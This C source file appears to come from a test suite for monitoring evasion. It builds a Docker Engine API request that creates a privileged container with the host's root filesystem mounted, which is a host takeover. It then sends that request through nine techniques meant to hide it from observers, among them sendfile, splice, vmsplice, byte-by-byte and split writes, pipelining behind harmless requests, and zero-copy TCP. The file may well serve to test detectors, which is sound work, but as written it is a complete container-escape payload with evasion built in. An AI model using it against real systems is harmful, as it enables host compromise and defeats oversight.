/*
 * Family 5, what is asked: one request that hands out the node (a privileged container with / mounted), sent so that who reads
 * along has a hard time. The server reads it whole, whatever way it came. The twins send the same to a program of no runtime.
 */
#include "evade.h"

#include <linux/sockios.h>
#include <sys/ioctl.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/uio.h>

#define BODY  "{\"Image\":\"alpine\",\"HostConfig\":{\"Privileged\":true,\"Binds\":[\"/:/host\"]}}"
#define READS "GET /v1.41/containers/json HTTP/1.1\r\nHost: docker\r\n\r\n"
#define LARGE 30000 /* of which a socket's buffer has less than 4 KiB in one piece */

/* The request, its body behind `padding` bytes of white space; malloc'd. */
static char *request_for_node(size_t padding, size_t *size)
{
	size_t body = padding + strlen(BODY);
	char *text = malloc(body + 256);

	if (!text)
		die("malloc");
	int head = snprintf(text, 256,
			    "POST /v1.41/containers/create HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\n"
			    "Content-Length: %zu\r\n\r\n",
			    body);
	memset(text + head, ' ', padding);
	memcpy(text + head + padding, BODY, strlen(BODY));
	*size = (size_t)head + body;
	return text;
}

static void write_all(int fd, const char *bytes, size_t size)
{
	while (size) {
		size_t sent = (size_t)must(write(fd, bytes, size), "write");

		bytes += sent;
		size -= sent;
	}
}

static int file_with(const char *bytes, size_t size)
{
	int file = (int)must(open("/tmp/request", O_CREAT | O_TRUNC | O_RDWR | O_CLOEXEC, 0600), "/tmp/request");

	write_all(file, bytes, size);
	must(lseek(file, 0, SEEK_SET), "lseek");
	return file;
}

static void by_sendfile(int fd)
{
	size_t size;
	char *request = request_for_node(0, &size);

	if (must(sendfile(fd, file_with(request, size), NULL, size), "sendfile") != (long)size)
		die("sendfile");
	answered(fd);
}

/* A file's pages, by way of a pipe: the socket refers to them. */
static void by_splice(int fd)
{
	int ends[2];
	size_t size;
	char *request = request_for_node(0, &size);

	must(pipe(ends), "pipe");
	must(splice(file_with(request, size), NULL, ends[1], NULL, size, 0), "splice into the pipe");
	if (must(splice(ends[0], NULL, fd, NULL, size, 0), "splice into the socket") != (long)size)
		die("splice");
	answered(fd);
}

/* The same with this process's own pages, which nobody copies before the server does. */
static void by_own_pages(int fd)
{
	int ends[2];
	size_t size;
	char *request = request_for_node(0, &size);
	char *pages = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct iovec part = {.iov_base = pages, .iov_len = size};

	if (pages == MAP_FAILED || size > 4096)
		die("mmap");
	memcpy(pages, request, size);
	must(pipe(ends), "pipe");
	must(vmsplice(ends[1], &part, 1, 0), "vmsplice");
	if (must(splice(ends[0], NULL, fd, NULL, size, 0), "splice into the socket") != (long)size)
		die("splice");
	answered(fd);
}

static void in_fragments(int fd)
{
	size_t size;
	char *request = request_for_node(LARGE, &size);

	write_all(fd, request, size);
	answered(fd);
}

static void byte_by_byte(int fd)
{
	size_t size;
	char *request = request_for_node(0, &size);

	for (size_t i = 0; i < size; i++)
		write_all(fd, request + i, 1);
	answered(fd);
}

/* The second half when the server has read the first: nothing of it is left in the socket. */
static void in_halves(int fd)
{
	int unread = 1;
	size_t size;
	char *request = request_for_node(0, &size);

	write_all(fd, request, size / 2);
	while (unread) {
		must(ioctl(fd, SIOCOUTQ, &unread), "SIOCOUTQ");
		sched_yield();
	}
	write_all(fd, request + size / 2, size - size / 2);
	answered(fd);
}

/* Behind harmless ones, in one write. */
static void pipelined(int fd)
{
	size_t size, before = strlen(READS);
	char *request = request_for_node(0, &size), *all = malloc(8 * before + size);

	if (!all)
		die("malloc");
	for (int i = 0; i < 8; i++)
		memcpy(all + (size_t)i * before, READS, before);
	memcpy(all + 8 * before, request, size);
	write_all(fd, all, 8 * before + size);
	answered(fd);
}

/* Behind one that asks for another protocol, which no server has to grant. */
static void after_upgrade(int fd)
{
	static const char upgrade[] = "GET /_ping HTTP/1.1\r\nHost: docker\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n";
	size_t size;
	char *request = request_for_node(0, &size);

	write_all(fd, upgrade, sizeof(upgrade) - 1);
	write_all(fd, request, size);
	answered(fd);
}

#define BOTH(way)                                                                                                              \
	static void way##_to_runtime(void)                                                                                     \
	{                                                                                                                      \
		way(connected(RUNTIME));                                                                                       \
	}                                                                                                                      \
	static void way##_to_other(void)                                                                                       \
	{                                                                                                                      \
		way(connected(DECOY));                                                                                         \
	}
BOTH(by_sendfile)
BOTH(by_splice)
BOTH(by_own_pages)
BOTH(in_fragments)
BOTH(byte_by_byte)
BOTH(in_halves)
BOTH(pipelined)
BOTH(after_upgrade)

#ifndef SO_ZEROCOPY
#define SO_ZEROCOPY 60
#endif
#ifndef MSG_ZEROCOPY
#define MSG_ZEROCOPY 0x4000000
#endif

/* Over TCP, whose sockets can refer to a sender's pages by themselves. */
static void without_copying(const char *port)
{
	int fd = over_tcp(port), one = 1;
	size_t size;
	char *request = request_for_node(LARGE, &size);

	must(setsockopt(fd, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof(one)), "SO_ZEROCOPY");
	for (size_t at = 0; at < size;)
		at += (size_t)must(send(fd, request + at, size - at, MSG_ZEROCOPY), "send");
	answered(fd);
}

static void zerocopy(void)
{
	without_copying("TCP_RUNTIME");
}

static void zerocopy_to_other(void)
{
	without_copying("TCP_DECOY");
}

const struct row request_rows[] = {
    {"request_sendfile", by_sendfile_to_runtime, by_sendfile_to_other},
    {"request_spliced", by_splice_to_runtime, by_splice_to_other},
    {"request_own_pages", by_own_pages_to_runtime, by_own_pages_to_other},
    {"request_fragments", in_fragments_to_runtime, in_fragments_to_other},
    {"request_zerocopy", zerocopy, zerocopy_to_other},
    {"request_bytes", byte_by_byte_to_runtime, byte_by_byte_to_other},
    {"request_halves", in_halves_to_runtime, in_halves_to_other},
    {"request_pipelined", pipelined_to_runtime, pipelined_to_other},
    {"request_after_upgrade", after_upgrade_to_runtime, after_upgrade_to_other},
    {0},
};
